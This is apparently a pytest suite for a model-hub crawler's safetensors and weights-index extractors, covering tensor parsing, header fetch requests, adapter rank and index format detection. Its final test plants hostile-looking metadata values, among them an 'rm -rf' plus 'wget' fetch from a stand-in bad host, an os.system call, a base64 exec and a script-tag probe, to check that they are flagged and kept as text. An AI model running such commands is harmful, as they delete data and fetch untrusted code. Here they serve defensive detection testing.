"""safetensors against what the safetensors library reads, and requests for long headers."""

import json
import struct
from pathlib import Path

import pytest

from catalog.testing.extractors import Storage
from crawler.extractors.safetensors import SafetensorsExtractor
from crawler.extractors.weights_index import WeightsIndexExtractor
from crawler.reader import RangedReader, bytes_reader

DATA = Path(__file__).parents[3] / "corpus" / "data" / "hub"
TRUTH = json.loads((DATA / "truth.json").read_text())["safetensors"]


@pytest.mark.parametrize("name", TRUTH)
def test_tensors_are_those_that_the_library_reads(name):
    extraction = SafetensorsExtractor().extract(bytes_reader(name, (DATA / name).read_bytes()))
    found = {tensor.name: [tensor.dtype, list(tensor.shape)] for tensor in extraction.tensors.tensors}
    assert found == TRUTH[name]["tensors"]
    assert sum(tally.elements for tally in extraction.tensors.tallies) == TRUTH[name]["elements"]


@pytest.mark.parametrize("name", TRUTH)
def test_every_key_of_the_metadata_is_said_or_empty(name):
    extraction = SafetensorsExtractor().extract(bytes_reader(name, (DATA / name).read_bytes()))
    said = {observation.pointer for observation in extraction.observations}
    silent = {
        key for key, value in TRUTH[name]["metadata"].items() if f"meta:{key}" not in said and value != "None"
    }
    # Steps that were planned give way to steps that were done; the base's family to the base's own name.
    assert silent <= {"ss_max_train_steps", "ss_base_model_version"}


def large(tensors, data_bytes):
    header = {
        f"layers.{n}.weight": {"dtype": "F32", "shape": [1], "data_offsets": [4 * n, 4 * n + 4]}
        for n in range(tensors)
    }
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + b"\0" * max(data_bytes, 4 * tensors)


@pytest.mark.parametrize(
    ("tensors", "requests"),
    [(100, 1), (1_000, 1), (5_000, 2), (40_000, 2)],
    ids=["8 kB", "80 kB", "400 kB", "3 MB"],
)
def test_header_takes_one_request_or_two_when_it_is_long(tensors, requests):
    data = large(tensors, 3_000_000)
    storage = Storage(data)
    extraction = SafetensorsExtractor().extract(RangedReader("m.safetensors", len(data), storage.fetch))
    assert extraction.tensors.count == tensors
    assert len(storage.ranges) == requests


@pytest.mark.parametrize(
    ("key", "shape", "rank"),
    [
        ("base_model.model.layers.0.self_attn.q_proj.lora_A.weight", [8, 32], 8),
        ("base_model.model.layers.0.self_attn.q_proj.lora_A.default.weight", [8, 32], 8),
        ("lora_unet_mid_block.lora_down.weight", [16, 4, 1, 1], 16),
        ("layers.0.q_proj.lora_a", [32, 4], 4),
    ],
)
def test_rank_of_an_adapter_is_read_off_its_matrices(key, shape, rank):
    elements = 1
    for size in shape:
        elements *= size
    header = json.dumps({key: {"dtype": "F16", "shape": shape, "data_offsets": [0, elements * 2]}}).encode()
    data = struct.pack("<Q", len(header)) + header + b"\0" * elements * 2
    extraction = SafetensorsExtractor().extract(bytes_reader("a.safetensors", data))
    assert [o.raw for o in extraction.observations if o.field == "adapter.rank"] == [rank]


def test_index_gives_each_shard_its_tensors():
    name = "model.safetensors.index.json"
    extraction = WeightsIndexExtractor().extract(bytes_reader(name, (DATA / name).read_bytes()))
    assert {reference.name: reference.tensors for reference in extraction.references} == {
        "model-00001-of-00002.safetensors": ("layers.1.weight",),
        "model-00002-of-00002.safetensors": ("layers.2.weight",),
    }


@pytest.mark.parametrize(
    ("name", "format_"),
    [
        ("model.safetensors.index.json", "safetensors"),
        ("model.safetensors.index.fp16.json", "safetensors"),
        ("pytorch_model.bin.index.json", "pytorch"),
        ("tf_model.h5.index.json", "hdf5"),
        ("flax_model.msgpack.index.json", "flax"),
    ],
)
def test_index_is_claimed_for_the_format_of_its_shards(name, format_):
    assert WeightsIndexExtractor().claims(f"a/{name}", b"{").format == format_


@pytest.mark.parametrize("name", ["config.json", "index.json", "model.index.json", "model_index.json"])
def test_other_json_is_not_claimed_as_an_index(name):
    assert WeightsIndexExtractor().claims(name, b"{") is None


@pytest.mark.parametrize(
    ("value", "risk"),
    [
        ("import os; os.system('echo pwned')", True),
        ("<script>alert(1)</script>", True),
        ("rm -rf /tmp/test && wget http://bad.example/script.sh", True),
        ("import base64; exec(base64.b64decode('eA=='))", True),
        ("Trained with the Adam optimiser; evaluates (well) on scripts.", False),
        ("https://example.org/model", False),
    ],
)
def test_text_that_looks_like_code_is_a_remark_and_kept_as_text(value, risk):
    header = json.dumps({"__metadata__": {"note": value}}).encode()
    extraction = SafetensorsExtractor().extract(
        bytes_reader("m.safetensors", struct.pack("<Q", len(header)) + header)
    )
    assert [r.severity.name for r in extraction.risks] == (["INFO"] if risk else [])
    assert [o.raw for o in extraction.observations if o.field == "extra.note"] == [value]
